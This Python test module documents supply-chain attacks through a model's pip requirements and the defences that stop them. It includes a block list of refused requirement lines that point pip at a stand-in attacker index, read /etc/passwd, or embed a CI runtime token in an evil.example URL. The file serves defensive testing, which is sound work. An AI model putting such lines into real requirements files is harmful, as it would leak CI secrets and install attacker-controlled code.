"""Attacks by what a model's requirements name: what they try, what stops it, and what then is to be seen.

No import beyond the standard library: scripts/generate.py reads this file. ``docs/security.md`` shows the table.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass

from tests.hostile.attacks import NOTHING

#: Lines that would make pip reach further than a name and a version; each is refused before anything runs.
REFUSED_LINES = (
    *("--index-url https://evil.example/simple", "--extra-index-url https://evil.example/simple", "-e .", "."),
    *("git+https://evil.example/x.git", "x @ https://evil.example/x.whl", "-r ../../etc/passwd", "-r /etc/passwd"),
    *("https://evil.example/${ACTIONS_RUNTIME_TOKEN}/x.whl", "--find-links /", "--trusted-host evil.example"),
    *("../x-1.0-py3-none-any.whl", "-r link", "torch==2.1.0"),
)


@dataclass(frozen=True)
class PackageAttack:
    """One attack. ``lines`` are the requirements of the model; ``model`` is a module in tests/hostile/models.

    ``code``, ``shown`` and ``said`` are those of :class:`tests.hostile.attacks.Attack`.
    """

    title: str
    defence: str
    result: str
    lines: tuple[str, ...]
    model: str = "good"
    builds: bool = False
    code: int = 0
    shown: str = ""
    said: str = ""


PACKAGE_ATTACKS: Mapping[str, PackageAttack] = {
    "shadows": PackageAttack(
        "bring modules named `torch`, `json`, `ptmobile`, …, `.pth` files, `sitecustomize` and entry points",
        "packages come last in the path, of the model's processes alone; the folder is no site folder",
        NOTHING,
        ("wheels/shadows-1.0-py3-none-any.whl",),
        model="imports_shadows",
        said="innocent import",
    ),
    "changing": PackageAttack(
        "change the packages that another model imports",
        "after the installation they belong to root",
        NOTHING,
        ("wheels/shadows-1.0-py3-none-any.whl",),
        model="changes_packages",
        said="refused: write",
    ),
    "climbing": PackageAttack(
        "a wheel with files outside of its folder (`../../…`), and such paths in its `RECORD`",
        "pip's own check; the fence of the process that installs",
        "a failure of that model; exit code 3",
        ("wheels/climbing-1.0-py3-none-any.whl",),
        code=3,
        shown="could not be installed",
    ),
    "address": PackageAttack(
        "a wheel that needs a source archive by its address, so that it is built whatever was allowed",
        "the process that installs can start no other",
        "a failure of that model; exit code 3",
        ("wheels/carrier-1.0-py3-none-any.whl",),
        code=3,
        shown="allow-source-builds",
    ),
    "building": PackageAttack(
        "with `allow-source-builds`, code that reads tokens, writes files, reaches the engine, kills while it builds",
        "the user, the fence, the environment and the limits of a model",
        NOTHING,
        ("wheels/building-1.0.tar.gz",),
        model="imports_building",
        builds=True,
        said="refused: write /github/workspace/good.py",
    ),
    "printing": PackageAttack(
        "with `allow-source-builds`, print workflow commands while it builds",
        "output is printed again line by line, each with a mark before it",
        "shown as text; exit code 3",
        ("wheels/printing-1.0.tar.gz",),
        builds=True,
        code=3,
        shown="could not be installed",
        said="set-output name=verdict",
    ),
    "planting": PackageAttack(
        "with `allow-source-builds`, a symbolic link, a second name of a file or a FIFO among the packages",
        "only plain files with one name are taken",
        "a failure of that model; exit code 3",
        ("wheels/planting-1.0.tar.gz",),
        builds=True,
        code=3,
        shown="something else than a plain file",
    ),
}
#: What is shown beside them, with a test of its own.
_LINES = (
    "name an index, a repository, a file outside, a variable with a token, or another torch",
    "the file is read by us; pip gets names, versions and hashes only",
    "told with line and reason; exit code 2",
)


def table() -> str:
    """The attacks as a table in Markdown."""
    rows = [("Attack", "What stops it", "What is seen"), ("---",) * 3, _LINES]
    rows += [(attack.title, attack.defence, attack.result) for attack in PACKAGE_ATTACKS.values()]
    return "".join(f"| {' | '.join(row)} |\n" for row in rows)
